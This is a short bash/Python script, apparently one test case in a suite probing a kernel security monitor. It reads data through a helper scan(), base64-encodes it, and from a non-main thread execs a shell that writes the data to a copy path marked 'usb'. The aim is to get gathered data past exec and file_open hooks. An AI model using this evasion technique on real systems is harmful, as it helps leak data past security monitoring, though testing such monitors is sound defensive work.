#!/usr/bin/env bash
# technique: a thread that is not the first becomes another program, and takes the scan along in its arguments
# hooks: bprm_creds_for_exec (what the process carries goes along), file_open
# sink: usb

. attack.sh
python3 - <<'PY'
import base64
import threading

from attack import *

text = base64.b64encode(scan()[:3000]).decode()
threading.Thread(target=lambda: os.execv("/bin/sh", ["sh", "-c", 'printf %s "$1" >"$COPY"', "sh", text])).start()
time.sleep(5)
PY
